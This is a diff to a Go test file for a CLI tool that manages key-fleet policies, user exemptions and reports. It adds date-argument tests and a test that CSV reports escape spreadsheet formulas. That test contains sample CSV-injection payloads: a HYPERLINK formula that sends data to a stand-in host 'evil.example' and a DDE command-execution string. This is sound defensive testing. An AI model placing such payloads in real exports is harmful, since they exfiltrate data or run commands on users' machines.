@@ -1,6 +1,7 @@
 package cli_test
 
 import (
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -92,6 +93,15 @@ func TestPolicyAndReportCommandsPrintWhatTheDaemonAnswers(t *testing.T) {
 			[]string{"users", "exempt", "alice", "--until", "2030-07-01", "--reason", "leave"}, []string{"keyfleet approvals approve apr_3"},
 			`"until":"` + time.Date(2030, 7, 1, 0, 0, 0, 0, time.UTC).Format(time.RFC3339) + `","reason":"leave"`},
 	}
+	in90 := time.Now().UTC().AddDate(0, 0, 90).Format("2006-01-02")
+	tests = append(tests, struct {
+		name, route string
+		answer      any
+		args, want  []string
+		body        string
+	}{"users exempt takes days from now", "POST /v1/users/{user}/exemptions",
+		api.Accepted{Approval: api.Approval{ID: "apr_4", Action: api.ActionUserExempt, TargetType: "user", TargetName: "alice", ExpiresAt: t0}},
+		[]string{"users", "exempt", "alice", "--until", "90d", "--reason", "leave"}, []string{"apr_4"}, `"until":"` + in90})
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			e := newEnv(t)
@@ -122,6 +132,8 @@ func TestPolicyCommandsRefuseBadArguments(t *testing.T) {
 		{"users", "exempt", "alice", "--reason", "x"},
 		{"users", "exempt", "alice", "--until", "next week", "--reason", "x"},
 		{"users", "exempt", "alice", "--until", "2030-01-01"},
+		{"users", "exempt", "alice", "--until", "0d", "--reason", "x"},
+		{"users", "exempt", "alice", "--until", "-5d", "--reason", "x"},
 		{"policy", "rollback", "zero"},
 	} {
 		if r := e.run(args...); r.code != cli.ExitUsage {
@@ -130,5 +142,28 @@ func TestPolicyCommandsRefuseBadArguments(t *testing.T) {
 	}
 	if r := e.run("policy", "apply", "/nonexistent.yaml", "--yes"); r.code != cli.ExitError || !strings.Contains(r.stderr, "policy YAML") {
 		t.Errorf("a missing file: %d %s", r.code, r.stderr)
+	}
+}
+
+func TestCSVReportsNeverCarryAFormula(t *testing.T) {
+	e := newEnv(t)
+	evil := `=HYPERLINK("https://evil.example/?d="&A1,"open")`
+	e.srv.Handle("GET /v1/reports/factors", clienttest.JSON(200, api.Page[api.ReportFactor]{Items: []api.ReportFactor{
+		{Username: "alice", FactorID: "fac_1", Kind: "piv", Model: evil, Firmware: "+1+cmd|' /C calc'!A0", Why: "@SUM(1)"}}}))
+	r := e.run("report", "vulnerable", "-o", "csv")
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s", r.code, r.stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("not a CSV of one row: %v\n%s", err, r.stdout)
+	}
+	for _, cell := range recs[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
+			t.Fatalf("a cell a spreadsheet would run: %q in %q", cell, recs[1])
+		}
+	}
+	if recs[1][3] != "'"+evil {
+		t.Fatalf("the model cell reads %q, want it as text", recs[1][3])
 	}
 }
